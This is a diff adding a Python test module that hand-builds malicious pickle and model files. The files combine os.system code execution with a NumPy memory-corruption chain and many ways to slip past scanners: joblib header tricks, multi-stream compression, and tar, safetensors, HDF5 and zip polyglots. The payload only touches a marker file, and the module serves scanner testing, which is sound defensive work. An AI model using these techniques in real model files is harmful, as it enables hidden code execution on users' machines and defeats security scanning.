@@ -1,0 +1,240 @@
+"""Hand-assembled hostile files: the attack chain and the scanner bypasses of issue 15.
+
+Each generator writes opcodes directly (never pickles a live object), so the tests show the
+principle rather than replay particular files. The command they would run only creates a
+marker file, so a test can tell whether anything ran.
+"""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import lzma
+import struct
+import tarfile
+import zipfile
+
+import numpy as np
+
+
+def su(text: str) -> bytes:
+    """SHORT_BINUNICODE."""
+    data = text.encode()
+    return b"\x8c" + bytes([len(data)]) + data
+
+
+def glob2(module: str, name: str) -> bytes:
+    """GLOBAL (protocol 0-2 form)."""
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def sglob(module: str, name: str) -> bytes:
+    """STACK_GLOBAL (protocol 4+)."""
+    return su(module) + su(name) + b"\x93"
+
+
+def system_call(marker: str, *, proto: int = 2) -> bytes:
+    """Opcodes that call os.system("touch marker") (no PROTO, no STOP)."""
+    g = glob2("os", "system") if proto < 4 else sglob("os", "system")
+    if proto == 0:  # text opcodes only: no NUL byte anywhere
+        return g + b"(S'touch " + marker.encode() + b"'\ntR"
+    return g + b"X" + struct.pack("<I", len(marker) + 6) + f"touch {marker}".encode() + b"\x85R"
+
+
+def evil_pickle(marker: str, *, proto: int = 2) -> bytes:
+    return b"\x80" + bytes([proto]) + system_call(marker, proto=proto) + b"."
+
+
+# --- the chain from the issue: allowlisted globals only ---------------------------------------
+
+
+def chain_pickle(*, proto: int = 2) -> bytes:
+    """The three moves of the memory-corruption chain, with allowlisted names only.
+
+    1. an array whose BUILD state is computed by a call (``builtins.dict([...])``) and slips in
+       ``__array_interface__`` (the state is not a dict written in the file);
+    2. SETITEM on a call's result (the array), writing through it;
+    3. an allowlisted NumPy helper (``__randomstate_ctor``) given a function the pickle chose.
+    """
+    g = glob2 if proto < 4 else sglob
+    interface = (
+        b"(" + su("__array_interface__") + b"}" + su("data") + b"(J\x00\x10\x00\x00\x88t"
+        b"s" + su("shape") + b"K\x10\x85s" + su("typestr") + su("|u1") + b"s" + b"t"
+    )
+    computed_state = g("builtins", "dict") + b"(" + interface + b"l\x85R"
+    array = g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") + b"K\x00\x85"
+    array += b"C\x01b\x87R"
+    array += computed_state + b"b"  # BUILD with the computed state
+    write = b"K\x00K\x41s"  # SETITEM on the array (a call result)
+    helper = g("numpy.random._pickle", "__randomstate_ctor") + su("MT19937")
+    helper += g("builtins", "bytearray") + b"\x86R"  # allowlisted, yet chosen by the file
+    return b"\x80" + bytes([proto]) + b"(" + array + write + helper + b"l."
+
+
+def as_gzip(data: bytes) -> bytes:
+    return gzip.compress(data)
+
+
+def as_npy(pickle_bytes: bytes) -> bytes:
+    """An object-dtype .npy whose data is the given pickle."""
+    buf = io.BytesIO()
+    np.lib.format.write_array_header_1_0(
+        buf, {"descr": "|O", "fortran_order": False, "shape": (1,)}
+    )
+    return b"\x93NUMPY\x01\x00" + buf.getvalue()[8:] + pickle_bytes
+
+
+def as_npz_member(pickle_bytes: bytes) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("ok.npy", _plain_npy())
+        zf.writestr("x.npy", as_npy(pickle_bytes))
+    return buf.getvalue()
+
+
+def _plain_npy() -> bytes:
+    buf = io.BytesIO()
+    np.save(buf, np.arange(3))
+    return buf.getvalue()
+
+
+# --- scanner bypasses ---------------------------------------------------------------------------
+
+
+def hex_int_first(marker: str) -> bytes:
+    """A protocol-0 pickle whose first INT is written in hex: pickle.load reads 16, a
+    base-10 reader calls the stream malformed (and so 'not a pickle')."""
+    return b"I0x10\n0" + system_call(marker) + b"."
+
+
+def octal_int_first(marker: str) -> bytes:
+    return b"I010\n0" + system_call(marker) + b"."
+
+
+def underscore_long_first(marker: str) -> bytes:
+    return b"L1_0\n0" + system_call(marker) + b"."
+
+
+def _joblib_file(header_pairs: bytes, payload: bytes, trailer: bytes) -> bytes:
+    """A joblib stream: one NumpyArrayWrapper whose BUILD state is ``header_pairs``, then
+    ``payload`` (the array bytes joblib reads), then ``trailer`` (more pickle)."""
+    head = b"\x80\x04" + sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
+    head += b"}(" + header_pairs + b"ub"
+    return head + payload + trailer
+
+
+def _dtype(code: str, elsize: int = -1) -> bytes:
+    state = (
+        b"(K\x03" + su("<") + b"NNN" + b"J" + struct.pack("<i", elsize) + b"J\xff\xff\xff\xffK\x00t"
+    )
+    return sglob("numpy", "dtype") + su(code) + b"\x89\x88\x87R" + state + b"b"
+
+
+def joblib_duplicate_key(marker: str) -> bytes:
+    """'shape' appears twice: joblib (a dict) keeps the last, so it reads 0 array bytes and
+    then runs the pickle that a first-key reader skips as array data."""
+    evil = b"0" + system_call(marker, proto=4) + b"."
+    pairs = su("subclass") + sglob("numpy", "ndarray")
+    pairs += su("shape") + b"K" + bytes([len(evil)]) + b"\x85"
+    pairs += su("order") + su("C") + su("dtype") + _dtype("u1")
+    pairs += su("allow_mmap") + b"\x89" + su("shape") + b"K\x00\x85"
+    # joblib reads 0 bytes of data, then the next opcode of the same stream
+    return _joblib_file(pairs, b"", evil)
+
+
+def joblib_lying_dtype_size(marker: str) -> bytes:
+    """The dtype state claims an element size of 64 for an 8-byte float: NumPy ignores it for
+    fixed-size types, so joblib reads 8 bytes per element while a reader trusting the state
+    skips 64 and lands past the pickle joblib runs."""
+    evil = b"0" + system_call(marker, proto=4) + b"."
+    pairs = su("subclass") + sglob("numpy", "ndarray")
+    pairs += su("shape") + b"K\x01\x85" + su("order") + su("C")
+    pairs += su("dtype") + _dtype("f8", elsize=64) + su("allow_mmap") + b"\x89"
+    pad = 64 - 8 - len(evil)
+    return _joblib_file(pairs, b"\x00" * 8, evil + b"N." * (pad // 2) + b"N" * (pad % 2) + b".")
+
+
+def _multi_stream(compress: object, benign: bytes, marker: str) -> bytes:
+    """A benign pickle in stream 1 and the payload in stream 2: the loaders read on."""
+    # stream 1 holds an unfinished pickle whose rest is in stream 2
+    whole = b"\x80\x02" + b"(" + benign + b"0" + system_call(marker) + b"."
+    cut = 5
+    return compress(whole[:cut]) + compress(whole[cut:])  # type: ignore[operator]
+
+
+def multi_stream_bz2(marker: str) -> bytes:
+    return _multi_stream(bz2.compress, b"N", marker)
+
+
+def multi_stream_xz(marker: str) -> bytes:
+    return _multi_stream(lzma.compress, b"N", marker)
+
+
+def multi_stream_lzma(marker: str) -> bytes:
+    return _multi_stream(lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), b"N", marker)
+
+
+def tar_polyglot(marker: str) -> bytes:
+    """A pickle at byte 0 that is also a valid tar header (the pickle is the member name)."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        info = tarfile.TarInfo("weights.bin")
+        info.size = 4
+        tf.addfile(info, io.BytesIO(b"\x00" * 4))
+    data = bytearray(buf.getvalue())
+    evil = b"N0" + system_call(marker, proto=0) + b"."  # text opcodes, no NUL byte
+    assert len(evil) < 100 and b"\x00" not in evil
+    data[0:100] = evil + b"\x00" * (100 - len(evil))
+    data[148:156] = b" " * 8
+    checksum = sum(data[:512])
+    data[148:156] = b"%06o\x00 " % checksum
+    return bytes(data)
+
+
+def safetensors_polyglot(marker: str) -> bytes:
+    """Bytes 0-7 read as a safetensors header length, byte 8 is '{': and the same bytes are a
+    BINBYTES opcode whose payload covers them, followed by the payload pickle."""
+    length = 4
+    n = 0x42 + (length << 8)  # 'B', then the BINBYTES length in bytes 1-4, zeros after
+    head = b"B" + struct.pack("<I", length) + b"\x00\x00\x00{"
+    assert struct.unpack("<Q", head[:8])[0] == n
+    body = head + b"0" + system_call(marker) + b"."
+    return body + b" " * (8 + n - len(body) + 16)
+
+
+def hdf5_userblock_polyglot(marker: str) -> bytes:
+    """A pickle in the 512-byte HDF5 user block, before a real HDF5 superblock."""
+    evil = evil_pickle(marker)
+    block = evil + b"\x00" * (512 - len(evil))
+    # a minimal superblock signature after the user block (h5py is not needed to build it)
+    return block + b"\x89HDF\r\n\x1a\n" + b"\x00" * 512
+
+
+def zip_appended_polyglot(marker: str) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("a.npy", _plain_npy())
+    return evil_pickle(marker) + buf.getvalue()
+
+
+def npy_python2_header(marker: str) -> bytes:
+    """A .npy header NumPy accepts (Python 2 long literals) around an object-array pickle."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }"
+    header += b" " * (64 - 10 - len(header) - 1) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil_pickle(marker)
+
+
+def npy_large_header(marker: str) -> bytes:
+    """A 2 MiB header: np.load(allow_pickle=True) ignores its header size limit."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    total = 2 << 20
+    header += b" " * (total - 12 - len(header) - 1) + b"\n"
+    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + evil_pickle(marker)
+
+
+def npy_bool_shape(marker: str) -> bytes:
+    """shape (True,): NumPy's header check is isinstance(x, int), and True is an int."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (True,), }"
+    header += b" " * (64 - 10 - len(header) - 1) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil_pickle(marker)
